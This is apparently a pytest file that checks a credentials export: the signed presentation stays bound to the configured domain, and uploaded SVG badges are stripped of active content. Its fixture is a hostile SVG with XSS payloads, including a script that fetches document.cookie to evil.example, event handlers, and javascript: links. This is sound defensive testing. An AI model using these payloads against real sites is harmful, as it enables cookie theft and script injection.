"""What the export hands the learner's computer: a presentation bound to our configured
address, and SVG badges that cannot run anything when opened from the unpacked folder."""
import json
import re

import pytest
from defusedxml.ElementTree import fromstring

from eigendossier.accounts.cookies import CSRF_COOKIE, SESSION_COOKIE
from eigendossier.credentials import bake_svg, dataintegrity
from tests.api.dossier.conftest import upload
from tests.api.privacy.conftest import SETTINGS, add_credentials, export, import_zip, open_zip
from tests.credentials_support import signed_jwt

HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="64" height="64" viewBox="0 0 64 64" onload="alert(1)">'
    "<script>fetch('https://evil.example/?'+document.cookie)</script>"
    '<circle cx="32" cy="32" r="30" fill="#0b5d6b" onclick="alert(2)"/>'
    '<foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml">'
    '<iframe src="javascript:alert(3)"/></body></foreignObject>'
    '<image href="https://tracker.example/pixel.png" width="1" height="1"/>'
    '<use xlink:href="https://evil.example/sprite.svg#x"/>'
    '<a href="javascript:alert(4)"><text x="4" y="60">Klik</text></a>'
    '<set attributeName="href" to="javascript:alert(5)"/>'
    '<rect width="9" height="9" style="fill:url(https://tracker.example/f)"/></svg>')


@pytest.fixture
def app_settings():
    return {**SETTINGS, "PUBLIC_BASE_URL": "https://dossier.roc.example"}


def test_the_exported_presentation_is_bound_to_our_configured_address(client, learner):
    add_credentials(client)
    for name in (SESSION_COOKIE, CSRF_COOKIE):  # the browser at the forged host has them too
        client.set_cookie(name, client.get_cookie(name).value, domain="evil.example")
    response = client.post("/api/v1/privacy/export", json={}, headers={"Host": "evil.example"})
    body = response.get_data()
    response.close()
    assert response.status_code == 200, body
    presentation = json.loads(open_zip(body)["presentation.json"])
    assert dataintegrity.proofs_of(presentation)[0]["domain"] == "dossier.roc.example"


def test_an_svg_badge_opens_from_the_export_as_a_picture_that_runs_nothing(client, learner):
    original = bake_svg(HOSTILE_SVG, signed_jwt("sanne@example.nl"), is_jws=True).encode()
    added = upload(client, original, "badge.svg").get_json()
    assert added["verification"]["status"] == "verified", added
    files = open_zip(export(client).data)

    name = f"credentials/credential-{added['id']}.svg"
    assert files[name] == original, "the credential itself stays byte for byte"
    index = files["index.html"].decode()
    links = re.findall(r'href="([^"]+)"', index)
    assert name not in links, "index.html must not open the original SVG"
    [picture] = [link for link in links if link.startswith("badges/")]

    safe = files[picture]
    drawn = fromstring(safe)
    assert drawn.tag == "{http://www.w3.org/2000/svg}svg"
    assert drawn.find("{http://www.w3.org/2000/svg}circle").get("fill") == "#0b5d6b"
    assert "Klik" in "".join(drawn.itertext())
    for forbidden in (b"script", b"onload", b"onclick", b"foreignObject", b"iframe",
                      b"javascript:", b"evil.example", b"tracker.example", b"<set",
                      b"openbadges"):
        assert forbidden not in safe, forbidden

    again = import_zip(client, export(client).data)
    assert again.status_code == 200, again.get_json()
    assert again.get_json()["failed"] == []
